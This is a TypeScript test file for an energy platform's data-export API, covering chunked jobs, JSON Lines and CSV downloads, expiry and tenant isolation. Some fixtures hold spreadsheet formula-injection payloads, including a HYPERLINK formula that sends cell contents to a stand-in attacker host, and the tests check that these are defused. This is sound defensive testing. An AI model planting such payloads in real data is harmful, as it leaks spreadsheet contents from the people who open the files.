// Data export through HTTP: the manifest from the owning modules, a job on the queue written in
// small chunks (EXPORT_CHUNK_ROWS=7, EXPORT_STEP_CHUNKS=2: many chunks and steps), progress,
// the whole export and one collection (JSON Lines and CSV) re-imported and compared row for row with
// the store, expiry, and a job whose instance stops midway finished by another instance.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestService, type TestService } from '../helpers/service.ts';
import { ManualClock } from '../../src/platform/clock.ts';
import { assertRefused } from '../helpers/refusal.ts';
import { asset, call, ingest, json, tokenFor } from '../energy/helpers.ts';
import { csvRecord } from '../../src/kit/csv.ts';

const BASE = '/api/organisations/export';
const clock = new ManualClock('2026-11-20T12:00:00Z');
const ENV = {
  EXPORT_CHUNK_ROWS: '7',
  EXPORT_STEP_CHUNKS: '2',
  EXPORT_TTL_HOURS: '24',
  CARBON_API_BASE_URL: 'http://127.0.0.1:9',
  TARIFF_API_BASE_URL: 'http://127.0.0.1:9',
};
let svc: TestService;
let admin: string;
let viewer: string;
let other: string;
let done: any;

/** Runs the job's steps (each queues the next 1 ms later) until it leaves queued/running. */
async function runToEnd(s: TestService, token: string, jobId: string) {
  for (let i = 0; i < 500; i++) {
    (s.clock as ManualClock).advance(1);
    await s.runDue();
    const j = json(await call(s, token, 'GET', `${BASE}/jobs/${jobId}`));
    if (j.status !== 'queued' && j.status !== 'running') return j;
  }
  throw new Error('export did not finish in 500 steps');
}

/** The store's rows of the organisation's telemetry, as the export writes them (a test-side reading). */
async function storedTelemetry(orgId: string) {
  const r = await svc.deps.db.query<any>(
    `select id::text as id, asset_id, ts, received_at, power_kw, soc_pct, voltage, "current", temp_c, status, run_id, intent_id, anomalies, raw
     from telemetry where org_id = $1 order by telemetry.received_at, telemetry.id`,
    [orgId],
  );
  return r.rows.map((x: any) => ({ ...x, ts: new Date(x.ts).toISOString(), received_at: new Date(x.received_at).toISOString() }));
}

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (q) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') q = false;
      else cell += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

before(async () => {
  svc = await startTestService({ clock, env: ENV });
  await svc.createOrg('org-x');
  await svc.createOrg('org-y');
  admin = await tokenFor(svc, 'org-x');
  viewer = await tokenFor(svc, 'org-x', 'VIEWER');
  other = await tokenFor(svc, 'org-y');
  await asset(svc, admin, { asset_id: 'x-bat', site_id: 'x-site', asset_class: 'battery' });
  await asset(svc, other, { asset_id: 'y-bat', site_id: 'y-site', asset_class: 'battery' });
  const recs = [];
  for (let i = 0; i < 40; i++)
    recs.push({
      device_id: 'x-bat',
      ts: new Date(Date.parse('2026-11-19T00:00:00Z') + i * 60_000).toISOString(),
      power_kw: i % 2 ? 1.5 : -2.25,
      soc_pct: 50 + i / 10,
    });
  // A device id a spreadsheet would run as a formula: defused in CSV.
  recs.push({ device_id: '=HYPERLINK("http://evil.example")', ts: '2026-11-18T12:00:00Z', power_kw: 1 });
  await ingest(svc, admin, recs);
  await ingest(svc, other, [{ device_id: 'y-bat', ts: '2026-11-19T00:00:00Z', power_kw: 9 }]);
});

after(async () => {
  await svc?.stop();
});

test('the manifest lists each owning module’s collections with the organisation’s row counts', async () => {
  const m = json(await call(svc, viewer, 'GET', `${BASE}/manifest`));
  const by = Object.fromEntries(m.collections.map((c: any) => [c.name, c]));
  assert.deepEqual(Object.keys(by).sort(), Object.keys(STORED).sort());
  assert.equal(by['telemetry.readings'].row_count, 41);
  assert.equal(by['statements.baselines'].row_count, 0);
  assert.ok(by['telemetry.readings'].columns.includes('power_kw'));
  assert.ok(by['telemetry.readings'].description);
  assert.equal(m.expires_after_hours, 24);
  assert.equal(json(await call(svc, other, 'GET', `${BASE}/manifest`)).collections.find((c: any) => c.name === 'telemetry.readings').row_count, 1);
  assertRefused(await call(svc, null, 'GET', `${BASE}/manifest`), 401, 'Authorization header missing');
});

test('an export job is queued, written in chunks with progress, and downloaded whole as JSON Lines equal to the store', async () => {
  const res = await call(svc, admin, 'POST', BASE, { collections: ['telemetry.readings', 'statements.baselines'] });
  assert.equal(res.statusCode, 202, res.body);
  const j = json(res);
  assert.equal(j.status, 'queued');
  assert.deepEqual(j.progress, { done: 0, total: 41, unit: 'rows', percent: 0 });
  assert.equal(j.collections_done, 0);
  // One step: 2 chunks of 7 rows.
  clock.advance(1);
  await svc.runDue();
  const mid = json(await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}`));
  assert.equal(mid.status, 'running');
  assert.deepEqual([mid.progress.done, mid.progress.percent], [14, 34]);
  assertRefused(await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/download`), 409, 'Export is running: files are available once it is completed');
  done = await runToEnd(svc, admin, j.job_id);
  assert.equal(done.status, 'completed');
  assert.deepEqual([done.progress.done, done.progress.percent], [41, 100]);
  assert.equal(done.expires_at, new Date(Date.parse(done.completed_at) + 24 * 3_600_000).toISOString());
  const dl = await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/download`);
  assert.equal(dl.statusCode, 200);
  assert.match(String(dl.headers['content-type']), /^application\/x-ndjson/);
  const lines = dl.body
    .split('\n')
    .filter(Boolean)
    .map((l: string) => JSON.parse(l));
  assert.deepEqual(new Set(lines.map((l: any) => l.collection)), new Set(['telemetry.readings']));
  // Re-imported and compared row for row with the store: no row missing, none twice, none foreign.
  assert.deepEqual(
    lines.map((l: any) => l.row),
    await storedTelemetry('org-x'),
  );
});

test('one collection as JSON Lines and as CSV (RFC 4180, header row), both equal to the store', async () => {
  const stored = await storedTelemetry('org-x');
  const jl = await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/telemetry.readings`);
  assert.equal(jl.statusCode, 200);
  assert.deepEqual(
    jl.body
      .split('\n')
      .filter(Boolean)
      .map((l: string) => JSON.parse(l)),
    stored,
  );
  const csv = await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/telemetry.readings?format=csv`);
  assert.equal(csv.statusCode, 200);
  assert.match(String(csv.headers['content-type']), /^text\/csv/);
  const rows = parseCsv(csv.body);
  const [header, ...data] = rows;
  assert.deepEqual(header.slice(0, 5), ['id', 'asset_id', 'ts', 'received_at', 'power_kw']);
  assert.equal(data.length, stored.length);
  const col = (n: string) => header.indexOf(n);
  assert.deepEqual(
    data.map((r) => [r[col('id')], r[col('ts')], r[col('power_kw')]]),
    stored.map((s: any) => [s.id, s.ts, String(s.power_kw)]),
  );
  // Text a spreadsheet would run as a formula gets a leading quote, as the audit CSV does; numbers stay numbers.
  assert.deepEqual(
    data.map((r) => r[col('asset_id')]).filter((a) => a !== 'x-bat'),
    [`'=HYPERLINK("http://evil.example")`],
  );
  assert.ok(data.some((r) => r[col('power_kw')] === '-2.25'));
  assert.deepEqual(JSON.parse(data[0][col('raw')]), stored[0].raw);
  // A collection of the job with no rows: an empty file (CSV: the header alone).
  assert.equal((await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/statements.baselines`)).body, '');
  assert.match((await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/statements.baselines?format=csv`)).body, /^baseline_id,site_id,.*\r\n$/);
  assertRefused(await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/nothing.here`), 404, 'Not Found');
  assertRefused(await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/collections/telemetry.readings?format=xml`), 422, { fields: ['query.format'] });
});

test('CSV bytes are the kit’s CSV of each JSON line: quotes, commas, newlines, formulas, escapes, numbers and nested JSON', async () => {
  await svc.createOrg('org-csv');
  const token = await tokenFor(svc, 'org-csv');
  // Text and JSON a spreadsheet or a hand-made CSV reader gets wrong; numbers JavaScript writes otherwise than PostgreSQL.
  const texts = [
    'plain',
    'a,b',
    'say "hi"',
    'two\nlines',
    'cr\r\nlf',
    '=1+2',
    '+44',
    '-3',
    '@sum',
    '\tstart',
    '\rstart',
    '',
    'é 日本 😀',
    '\u0001\u001f ctl',
    'back\\slash /',
    "it's",
    '-0.500',
    '-12',
    '-1.5e3',
    '-.5',
    '-1.',
    '-',
    '--1',
    '-1 ',
    '-1\n2',
  ];
  const raws = [
    {},
    [],
    { b: 1, a: [1, 2, { c: null }] },
    { '2': 'x', '1': 'y', k: 'z' },
    { big: 123456789012345678, tiny: 1e-7, e: 1e21, half: 0.5, neg: -0, list: [0.1, 1.5e300] },
    { s: 'quote " comma , newline \n tab \t ctl \u0001 uni é 😀' },
    { 'a,b': { '"': true, nested: [[], {}] } },
    'just text',
    42.125,
    null,
  ];
  await svc.deps.db.query(
    `insert into telemetry (org_id, asset_id, ts, received_at, power_kw, soc_pct, status, anomalies, raw)
     select 'org-csv', t.v, timestamptz '2026-11-19T00:00:00Z' + t.i * interval '1 minute', timestamptz '2026-11-19T00:00:00Z' + t.i * interval '1 minute',
            (array[0, -0.0, 0.1, 1e21, 1e-7, 123456.789, -2.25, 1e300])[1 + t.i % 8], t.i * 0.5, t.v, array[t.v, 'x'], r.v
     from jsonb_array_elements_text($1::jsonb) with ordinality as t(v, i)
     join jsonb_array_elements($2::jsonb) with ordinality as r(v, j) on r.j = 1 + (t.i - 1) % $3`,
    [JSON.stringify(texts), JSON.stringify(raws), raws.length],
  );
  const j = json(await call(svc, token, 'POST', BASE, { collections: ['telemetry.readings'] }));
  assert.equal(j.progress.total, texts.length);
  await runToEnd(svc, token, j.job_id);
  const columns = json(await call(svc, token, 'GET', `${BASE}/manifest`)).collections.find((c: any) => c.name === 'telemetry.readings').columns as string[];
  const lines = (await call(svc, token, 'GET', `${BASE}/jobs/${j.job_id}/collections/telemetry.readings`)).body.split('\n').filter(Boolean);
  assert.equal(lines.length, texts.length);
  const csv = await call(svc, token, 'GET', `${BASE}/jobs/${j.job_id}/collections/telemetry.readings?format=csv`);
  assert.equal(csv.statusCode, 200);
  // Byte for byte what the kit writes from each line parsed (decisions 0205, 0490).
  const expected =
    csvRecord(columns) +
    lines
      .map((l: string) => {
        const row = JSON.parse(l);
        return csvRecord(columns.map((c) => row[c]));
      })
      .join('');
  assert.equal(csv.rawPayload.toString('utf8'), expected);
  assert.ok(csv.body.includes(`,'=1+2,`), 'a formula defused');
});

test('CSV download: text a spreadsheet would run is defused, decimals kept as exact text stay numbers (negative ones too)', async () => {
  await svc.createOrg('org-formula');
  const token = await tokenFor(svc, 'org-formula');
  // A site id is the organisation's own text: a formula that would send the sheet's cells elsewhere.
  const evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
  await svc.deps.db.query(
    `insert into energy_site_halfhours (org_id, site_id, slot, day, import_kwh, export_kwh, generation_kwh, consumption_kwh, charge_kwh, discharge_kwh, residual_kwh, basis, consumption_method, coverage, assets_expected, assets_reporting, complete, all_measured)
           values ($1, $2, '2026-11-19T00:00:00Z', '2026-11-19', 0, 0.5, 0, 0, 0, 0, -0.5, '{}', 'balance', 1, 1, 1, true, true),
                  ($1, $2, '2026-11-19T00:30:00Z', '2026-11-19', 1.25, 0, 0, 1.25, 0, 0, -12.125, '{}', 'balance', 1, 1, 1, true, true)`,
    ['org-formula', evil],
  );
  const j = json(await call(svc, token, 'POST', BASE, { collections: ['energy.site_half_hours'], format: 'csv' }));
  await runToEnd(svc, token, j.job_id);
  const res = await call(svc, token, 'GET', `${BASE}/jobs/${j.job_id}/collections/energy.site_half_hours`);
  assert.equal(res.statusCode, 200);
  const [head, ...rows] = parseCsv(res.body);
  const col = (r: string[], name: string) => r[head.indexOf(name)];
  assert.deepEqual(
    rows.map((r) => col(r, 'site_id')),
    [`'${evil}`, `'${evil}`],
    'the formula is text in the sheet',
  );
  // The JSON Lines keep decimals as exact text ("-0.500"); in the CSV they are numbers a spreadsheet
  // reads as such, not text behind an apostrophe.
  assert.deepEqual(
    rows.map((r) => [col(r, 'import_kwh'), col(r, 'export_kwh'), col(r, 'residual_kwh')]),
    [
      ['0.000', '0.500', '-0.500'],
      ['1.250', '0.000', '-12.125'],
    ],
  );
});

test('export refusals: roles, another organisation’s job, unknown collections, bad periods', async () => {
  assertRefused(await call(svc, viewer, 'POST', BASE, {}), 403, 'Insufficient permissions');
  assertRefused(await call(svc, admin, 'POST', BASE, { collections: ['nothing.here'] }), 422, { fields: ['body.collections'] });
  assertRefused(await call(svc, admin, 'POST', BASE, { from: '2026-11-19T00:00:00Z', to: '2026-11-18T00:00:00Z' }), 422, { fields: ['body.to'] });
  assertRefused(await call(svc, admin, 'POST', BASE, { format: 'xlsx' }), 422, { fields: ['body.format'] });
  assertRefused(await call(svc, admin, 'POST', BASE, { from: '0000-01-01T00:00:00Z' }), 422, { fields: ['body.from'] });
  for (const p of [`/jobs/${done.job_id}`, `/jobs/${done.job_id}/download`, `/jobs/${done.job_id}/collections/telemetry.readings`]) {
    assertRefused(await call(svc, other, 'GET', BASE + p), 404, 'Not Found');
    assertRefused(await call(svc, viewer, 'GET', BASE + p), 403, 'Insufficient permissions');
  }
  assertRefused(await call(svc, admin, 'GET', `${BASE}/jobs/nope`), 404, 'Not Found');
});

test('a period limits the rows; the other organisation’s export holds only its own row', async () => {
  const j = json(
    await call(svc, admin, 'POST', BASE, { collections: ['telemetry.readings'], from: '2026-11-19T00:10:00Z', to: '2026-11-19T00:20:00Z', format: 'csv' }),
  );
  assert.equal(j.progress.total, 10);
  const end = await runToEnd(svc, admin, j.job_id);
  assert.equal(end.progress.done, 10);
  const csv = parseCsv((await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/collections/telemetry.readings`)).body);
  assert.equal(csv.length, 11);
  const y = json(await call(svc, other, 'POST', BASE, {}));
  await runToEnd(svc, other, y.job_id);
  const lines = (await call(svc, other, 'GET', `${BASE}/jobs/${y.job_id}/download`)).body
    .split('\n')
    .filter(Boolean)
    .map((l: string) => JSON.parse(l));
  assert.deepEqual(
    lines.filter((l: any) => l.collection === 'telemetry.readings').map((l: any) => l.row.asset_id),
    ['y-bat'],
  );
  // None of org-x's fixture rows in any collection of org-y's export.
  assert.ok(lines.length > 1 && !lines.some((l: any) => /x-site|x-bat|org-x/.test(JSON.stringify(l.row))));
});

/** Each collection's rows in the store, read by the test (the key members say which row is which). */
const STORED: Record<string, { key: string[]; sql: string }> = {
  'registry.sites': {
    key: ['site_id'],
    sql: `select site_id, count(*)::int as asset_count, min(created_at) as first_recorded_at, max(updated_at) as updated_at from assets where org_id = $1 group by site_id`,
  },
  'registry.assets': { key: ['asset_id'], sql: `select * from assets where org_id = $1` },
  'telemetry.readings': { key: ['id'], sql: `select * from telemetry where org_id = $1` },
  'energy.site_half_hours': { key: ['site_id', 'slot'], sql: `select * from energy_site_halfhours where org_id = $1` },
  'alerts.alerts': { key: ['id'], sql: `select * from org_alerts where org_id = $1` },
  'field.work_orders': { key: ['id'], sql: `select * from field_work_orders where org_id = $1` },
  'hub.transactions': { key: ['transaction_id'], sql: `select * from hub_transactions where org_id = $1` },
  'settlement.receipts': { key: ['receipt_id'], sql: `select * from settlement_receipts where org_id = $1` },
  'statements.baselines': { key: ['baseline_id'], sql: `select * from statement_baselines where org_id = $1` },
  'statements.statements': { key: ['statement_id'], sql: `select * from statement_statements where org_id = $1` },
  'audit.log': { key: ['id'], sql: `select * from audit_log where org_id = $1` },
};

/** A stored value as the export writes it: instants ISO UTC with milliseconds, dates as days, decimals and ids as exact text. */
function comparable(exported: unknown, stored: unknown): [unknown, unknown] {
  if (stored instanceof Date) {
    if (typeof exported === 'string' && /^\d{4}-\d\d-\d\d$/.test(exported))
      return [exported, `${stored.getFullYear()}-${String(stored.getMonth() + 1).padStart(2, '0')}-${String(stored.getDate()).padStart(2, '0')}`];
    return [exported, stored.toISOString()];
  }
  if (typeof stored === 'bigint') return [exported, String(stored)];
  if (typeof stored === 'string' && typeof exported === 'number') return [exported, Number(stored)];
  if (typeof stored === 'number' && typeof exported === 'string') return [exported, String(stored)];
  return [exported, stored];
}

const keyOf = (row: Record<string, unknown>, key: string[]) =>
  JSON.stringify(key.map((k) => (row[k] instanceof Date ? (row[k] as Date).toISOString() : String(row[k]))));

/** Rows of the other modules, written straight to their tables: the export is under test here, not how they come about. */
async function fixtures(orgId: string) {
  const q = (sql: string, params: unknown[] = []) => svc.deps.db.query(sql, params);
  const t = '2026-11-19T10:00:00.123Z';
  await q(
    `insert into energy_site_halfhours (org_id, site_id, slot, day, import_kwh, export_kwh, generation_kwh, consumption_kwh, charge_kwh, discharge_kwh, residual_kwh, basis, consumption_method, coverage, assets_expected, assets_reporting, complete, all_measured)
           values ($1, 'x-site-2', '2026-11-19T00:00:00Z', '2026-11-19', 1.125, 0, 0.5, 1.625, 0, 0.25, -0.001, '{"import": "measured"}', 'balance', 0.75, 2, 1, false, true),
                  ($1, 'x-site-2', '2026-11-19T00:30:00Z', '2026-11-19', 0.100, 2.5, 3, 0.6, 0.1, 0, 0, '{}', 'balance', 1, 2, 2, true, true)`,
    [orgId],
  );
  await q(
    `insert into org_alerts (id, org_id, type, source, severity, status, subject_type, subject_id, title, details, dedupe_key, raised_at, resolved_at, resolution)
           values ('al-1', $1, 'device.offline', 'telemetry', 'warning', 'resolved', 'asset', 'x-bat', '=SUM(A1) offline, "quoted"', '{"minutes": 12}', 'k1', $2, $2, 'back'),
                  ('al-2', $1, 'device.offline', 'telemetry', 'critical', 'open', null, null, 'Line
two', '{}', 'k2', $2, null, null)`,
    [orgId, t],
  );
  await q(
    `insert into field_work_orders (id, org_id, site_id, asset_id, priority, kind, description, status, source_type, sla_policy, timeline, sla_computed_at, response_elapsed_ms, response_running, resolution_elapsed_ms, resolution_running, created_at, updated_at, scheduled_for)
           values ('wo-1', $1, 'x-site', 'x-bat', 'high', 'repair', 'Replace fuse', 'open', 'manual', '{"response_minutes": 60}', '[{"at": "2026-11-19T10:00:00Z", "status": "open"}]', $2, 4500000000123, true, 0, true, $2, $2, null)`,
    [orgId, t],
  );
  await q(
    `insert into hub_transactions (org_id, transaction_id, site_id, charge_point_id, connector_id, ocpp_transaction_id, ocpp_version, id_tag, started_at, meter_start_wh, meter_start_known, created_at)
           values ($1, 'tx-1', 'x-site', 'cp-1', 1, '77', '1.6', '+TAG', $2, 12345, true, $2)`,
    [orgId, t],
  );
  await q(`insert into esg_signing_keys (key_id, public_key, origin, created_at) values ('export-test-key', 'pk', 'generated', $1) on conflict do nothing`, [
    t,
  ]);
  await q(
    `insert into settlement_receipts (org_id, receipt_id, seq, receipt_hash, prev_hash, signed_body, signature, kid, site_id, asset_id, period_start, period_end, direction, delivered_wh, source_basis, issued_at)
           values ($1, 'r-1', 1, 'h1', 'h0', '{"a":1}', 'sig', 'export-test-key', 'x-site', 'x-bat', '2026-11-19T00:00:00Z', '2026-11-19T00:30:00Z', 'export', 4500000000123, 'measured', $2)`,
    [orgId, t],
  );
  await q(
    `insert into statement_baselines (org_id, baseline_id, site_id, method, reference_from, reference_to, figures, tariff_pence_per_kwh, status, proposed_at)
           values ($1, 'b-1', 'x-site', 'mean', '2026-10-01', '2026-10-31', '{"kwh": "12.500"}', 24.5, 'agreed', $2)`,
    [orgId, t],
  );
  await q(
    `insert into statement_statements (org_id, statement_id, site_id, baseline_id, period_from, period_to, statement_hash, signed_body, signature, kid, issued_at)
           values ($1, 's-1', 'x-site', 'b-1', '2026-11-01', '2026-11-30', 'sh1', '{}', 'sig', 'export-test-key', $2)`,
    [orgId, t],
  );
}

test('every collection exported, re-imported and compared row for row with each owning module’s table', async () => {
  await fixtures('org-x');
  const m = json(await call(svc, admin, 'GET', `${BASE}/manifest`));
  const j = json(await call(svc, admin, 'POST', BASE, {}));
  assert.deepEqual(
    j.collections,
    m.collections.map((c: any) => c.name),
  );
  const end = await runToEnd(svc, admin, j.job_id);
  assert.equal(end.status, 'completed');
  const lines = (await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/download`)).body
    .split('\n')
    .filter(Boolean)
    .map((l: string) => JSON.parse(l));
  // Counted when the job was made; rows the organisation gained meanwhile (its ledger, its audit log) are written too.
  assert.equal(end.progress.done, lines.length);
  assert.ok(end.progress.done >= end.progress.total);
  const counts = Object.fromEntries(json(await call(svc, admin, 'GET', `${BASE}/manifest`)).collections.map((c: any) => [c.name, c.row_count]));
  for (const c of m.collections) {
    const spec = STORED[c.name];
    assert.ok(spec, `the test reads ${c.name}`);
    const stored = (await svc.deps.db.query<Record<string, unknown>>(spec.sql, ['org-x'])).rows;
    const exported = lines.filter((l: any) => l.collection === c.name).map((l: any) => l.row);
    assert.ok(stored.length > 0, `${c.name} has rows to compare`);
    assert.equal(exported.length, stored.length, c.name);
    assert.equal(counts[c.name], stored.length, `${c.name} manifest count`);
    const byKey = new Map(stored.map((r) => [keyOf(r, spec.key), r]));
    assert.equal(byKey.size, stored.length);
    const seen = new Set<string>();
    for (const row of exported) {
      assert.deepEqual(Object.keys(row), c.columns, `${c.name} members`);
      const k = JSON.stringify(spec.key.map((n) => (typeof row[n] === 'string' && /T.*Z$/.test(row[n]) ? new Date(row[n]).toISOString() : String(row[n]))));
      assert.ok(!seen.has(k), `${c.name} ${k} twice`);
      seen.add(k);
      const s = byKey.get(k);
      assert.ok(s, `${c.name} ${k} not in the store`);
      for (const col of c.columns) {
        const [a, b] = comparable(row[col], s[col]);
        assert.deepEqual(a, b, `${c.name} ${k} ${col}`);
      }
    }
    // The same collection alone, as CSV: as many records as rows, with the header.
    const csv = parseCsv((await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/collections/${c.name}?format=csv`)).body);
    assert.deepEqual(csv[0], c.columns);
    assert.equal(csv.length - 1, stored.length, `${c.name} CSV`);
  }
  // Exact text survives: bigints (beyond 32 bits) and decimals are strings, a formula is defused in CSV only.
  const wo = lines.find((l: any) => l.collection === 'field.work_orders').row;
  assert.equal(wo.response_elapsed_ms, '4500000000123');
  const hh = lines.filter((l: any) => l.collection === 'energy.site_half_hours' && l.row.site_id === 'x-site-2').map((l: any) => l.row.import_kwh);
  assert.deepEqual(hh, ['1.125', '0.100']);
  const alerts = parseCsv((await call(svc, admin, 'GET', `${BASE}/jobs/${j.job_id}/collections/alerts.alerts?format=csv`)).body);
  assert.deepEqual(
    alerts.slice(1).map((r) => r[alerts[0].indexOf('title')]),
    [`'=SUM(A1) offline, "quoted"`, 'Line\ntwo'],
  );
});

test('files expire after the stated time and are deleted', async () => {
  clock.set(new Date(Date.parse(done.expires_at) + 1));
  clock.advance(10 * 60_000);
  await svc.runDue();
  const j = json(await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}`));
  assert.equal(j.status, 'expired');
  assertRefused(await call(svc, admin, 'GET', `${BASE}/jobs/${done.job_id}/download`), 410, 'Export expired: its files were deleted');
  const left = await svc.deps.db.query<{ n: number }>(`select count(*)::int as n from export_chunks where job_id = $1`, [done.job_id]);
  assert.equal(left.rows[0].n, 0);
});

test('a job whose instance stops midway is finished by another instance: no row twice, none missing', async () => {
  const b = await startTestService({ clock, env: ENV, shareWith: svc });
  let jobId: string;
  try {
    const bAdmin = await tokenFor(b, 'org-x');
    jobId = json(await call(b, bAdmin, 'POST', BASE, { collections: ['telemetry.readings'] })).job_id;
    clock.advance(1);
    await b.runDue(); // one step on B, then B goes away with its next step queued
  } finally {
    await b.stop();
  }
  const mid = json(await call(svc, admin, 'GET', `${BASE}/jobs/${jobId!}`));
  assert.equal(mid.progress.done, 14);
  const end = await runToEnd(svc, admin, jobId!);
  assert.equal(end.progress.done, 41);
  const lines = (await call(svc, admin, 'GET', `${BASE}/jobs/${jobId!}/download`)).body
    .split('\n')
    .filter(Boolean)
    .map((l: string) => JSON.parse(l).row);
  assert.deepEqual(lines, await storedTelemetry('org-x'));
});

test('queued exports are capped per organisation: the one past EXPORT_MAX_QUEUED is refused 429 and queues nothing; another organisation still queues', async () => {
  // Nothing of the earlier tests is still queued (each ran to its end).
  const before = await svc.deps.db.query<{ n: number }>(`select count(*)::int as n from export_jobs where org_id = 'org-x'`);
  for (let i = 0; i < 2; i++) assert.equal((await call(svc, admin, 'POST', BASE, { collections: ['telemetry.readings'] })).statusCode, 202);
  const refused = await call(svc, admin, 'POST', BASE, { collections: ['telemetry.readings'] });
  assertRefused(refused, 429, '2 exports are already queued or running for this organisation; at most 2 may be. Wait for one to finish.');
  assert.equal(refused.headers['retry-after'], '60');
  const after = await svc.deps.db.query<{ n: number }>(`select count(*)::int as n from export_jobs where org_id = 'org-x'`);
  assert.equal(after.rows[0].n, before.rows[0].n + 2, 'the refused export left no job behind');
  assert.equal((await call(svc, other, 'POST', BASE, { collections: ['telemetry.readings'] })).statusCode, 202);
});
